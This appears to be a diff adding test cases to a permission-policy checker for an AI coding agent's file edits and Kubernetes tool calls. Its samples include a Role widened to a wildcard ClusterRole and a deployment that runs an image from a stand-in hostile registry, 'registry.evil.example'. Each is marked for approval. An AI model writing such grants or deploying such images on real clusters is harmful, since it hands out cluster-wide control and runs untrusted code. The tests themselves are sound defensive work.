@@ -248,3 +248,52 @@ policyTable('unread-call', [
     expect: null,
   },
 ]);
+
+policyTable('cluster-privilege-grant', [
+  {
+    note: "a chart's Role widened to a ClusterRole of every verb on every resource",
+    spec: anEdit(
+      `${PROJECT}/deploy/helm/payments/templates/rbac.yaml`,
+      'kind: Role\nmetadata:\n  name: payments\nrules:\n  - apiGroups: [""]\n    resources: ["configmaps"]\n    verbs: ["get", "list"]',
+      'kind: ClusterRole\nmetadata:\n  name: payments\nrules:\n  - apiGroups: ["*"]\n    resources: ["*"]\n    verbs: ["*"]',
+    ),
+    expect: 'ask',
+  },
+  {
+    note: 'the same wildcard written as YAML block lists',
+    spec: aWrite(
+      `${PROJECT}/deploy/k8s/debug-role.yaml`,
+      'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: debug\nrules:\n  - apiGroups:\n      - "*"\n    resources:\n      - "*"\n    verbs:\n      - "*"\n',
+    ),
+    expect: 'ask',
+  },
+  {
+    note: 'near miss: a ClusterRole that reads nodes',
+    spec: aWrite(
+      `${PROJECT}/deploy/k8s/node-reader.yaml`,
+      'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: node-reader\nrules:\n  - apiGroups: [""]\n    resources: ["nodes"]\n    verbs: ["get", "list", "watch"]\n',
+    ),
+    expect: null,
+  },
+]);
+
+const applied = (image: string) => ({
+  tool: 'mcp__kubernetes__apply_manifest',
+  input: {
+    context: 'dev',
+    manifest: `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: debug-agent\nspec:\n  template:\n    spec:\n      containers:\n        - name: agent\n          image: ${image}\n`,
+  },
+});
+
+policyTable('container-image-source', [
+  {
+    note: 'a manifest applied through an MCP tool runs an image from an unknown registry',
+    spec: applied('registry.evil.example/tools/debug-agent:latest'),
+    expect: 'ask',
+  },
+  {
+    note: "near miss: the same from the company's registry",
+    spec: applied('registry.northbank.internal/tools/debug-agent:1.4.2'),
+    expect: null,
+  },
+]);
